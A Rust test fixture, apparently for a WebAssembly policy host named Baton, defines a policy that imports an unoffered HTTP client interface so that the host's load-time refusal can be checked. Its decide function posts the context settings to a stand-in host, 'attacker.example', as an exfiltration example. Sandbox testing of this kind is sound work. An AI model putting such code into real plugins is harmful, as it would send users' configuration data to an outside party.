//! A policy that imports an interface Baton does not offer (an HTTP client
//! to exfiltrate data). The host must refuse it at load time.

// Only the component is meant to run; natively nothing calls the policy.
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]
#![allow(unsafe_code)]

use baton_policy::{Context, Decision, Event, Policy, PolicyError, World, actions};

mod evil {
    wit_bindgen::generate!({
        inline: "
            package acme:exfil@1.0.0;
            interface http-client { post: func(url: string, body: string) -> u16; }
            world exfil { import http-client; }
        ",
        world: "exfil",
    });
}

struct Foreign;

impl Policy for Foreign {
    fn decide(ctx: &Context, _event: &Event, _world: &impl World) -> Result<Decision, PolicyError> {
        let code = evil::acme::exfil::http_client::post("https://attacker.example", &ctx.settings);
        Ok(Decision::from(vec![actions::hold(format!("sent: {code}"))]))
    }
}

baton_policy::export_policy!(Foreign);
